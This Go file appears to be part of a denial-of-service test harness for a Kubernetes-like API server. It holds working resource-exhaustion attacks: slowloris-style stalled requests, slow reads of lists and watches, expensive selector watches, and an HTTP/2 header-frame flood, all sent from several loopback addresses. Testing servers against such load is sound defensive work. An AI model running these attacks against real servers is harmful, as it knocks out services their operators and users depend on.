package main

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync/atomic"
	"time"
)

// attackerAddresses are the addresses of attacks that exceed the share of one client.
var attackerAddresses = []string{attackerAddress, "127.0.0.3", "127.0.0.4"}

// spreadAttacks are attacks from several addresses, which together may take all that the server
// has. They open as many connections as they can, without waiting for a response.
var spreadAttacks = []attack{
	{"spread small bodies", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 600, "POST "+podsPath+" HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100\r\n\r\n{", stall)
	}},
	{"spread large bodies", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 600, "POST "+podsPath+" HTTP/1.1\r\nHost: localhost\r\nContent-Length: 2900000\r\n\r\n{", stall)
	}},
	{"spread unread lists", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 90, "GET /api/v1/pods HTTP/1.1\r\nHost: localhost\r\n\r\n", stall)
	}},
	{"spread unread objects", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 1200, "GET "+podsPath+"/large-1 HTTP/1.1\r\nHost: localhost\r\nAccept-Encoding: gzip\r\n\r\n",
			stall)
	}},
	{"spread slow lists", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 90, "GET /api/v1/pods HTTP/1.1\r\nHost: localhost\r\n\r\n", readSlowly)
	}},
	{"spread slow watches", func(ctx context.Context, a *attacker) {
		a.spread(ctx, 600, "GET /api/v1/pods?watch=true HTTP/1.1\r\nHost: localhost\r\n\r\n", readSlowly)
	}},
	{"spread selectors", func(ctx context.Context, a *attacker) {
		var n atomic.Int64
		parallel(ctx, 1500, func() {
			i := n.Add(1)
			// The selector matches no object, but the server has to find that out for each write.
			a.holdFrom(ctx, int(i),
				fmt.Sprintf("GET %s?watch=true&labelSelector=%s-%d!=x,x HTTP/1.1\r\nHost: localhost\r\n\r\n",
					configMaps, attackSecret, i), stall)
		})
	}},
	{"spread header blocks", func(ctx context.Context, a *attacker) {
		block := strings.Builder{}
		block.WriteString("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
		block.Write(h2Frame(h2Settings, 0, 0, nil))
		for i := range uint32(60) {
			block.Write(h2Frame(h2Headers, 5, 2*i+1, h2Crumbs))
		}
		var n atomic.Int64
		parallel(ctx, 12, func() {
			a.holdFrom(ctx, int(n.Add(1)), block.String(), func(ctx context.Context, c net.Conn) {
				_, _ = io.Copy(io.Discard, c)
			})
		})
	}},
}

// spread sends text on n connections from the addresses in turn, and calls use with each
// connection. It opens a new connection for each one that ends.
func (a *attacker) spread(ctx context.Context, n int, text string, use func(context.Context, net.Conn)) {
	var opened atomic.Int64
	parallel(ctx, n, func() { a.holdFrom(ctx, int(opened.Add(1)), text, use) })
}

// holdFrom sends text on a new connection from the address with the number i, and calls use.
func (a *attacker) holdFrom(ctx context.Context, i int, text string, use func(context.Context, net.Conn)) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackerAddresses[i%len(attackerAddresses)])}}
	c, err := d.DialContext(ctx, "tcp", strings.TrimPrefix(a.url, "http://"))
	if err != nil {
		time.Sleep(time.Millisecond)
		return
	}
	defer c.Close()
	defer context.AfterFunc(ctx, func() { c.Close() })()
	if tcp, ok := c.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10)
	}
	if _, err := io.WriteString(c, text); err == nil {
		use(ctx, c)
	}
	if ctx.Err() == nil {
		a.count("closed")
	}
}

// stall neither sends nor reads until ctx ends.
func stall(ctx context.Context, _ net.Conn) { <-ctx.Done() }

// readSlowly reads 2 KiB a second, so that no write of the server times out.
func readSlowly(ctx context.Context, c net.Conn) {
	buffer := make([]byte, 2<<10)
	for ctx.Err() == nil {
		if _, err := c.Read(buffer); err != nil {
			return
		}
		time.Sleep(time.Second)
	}
}
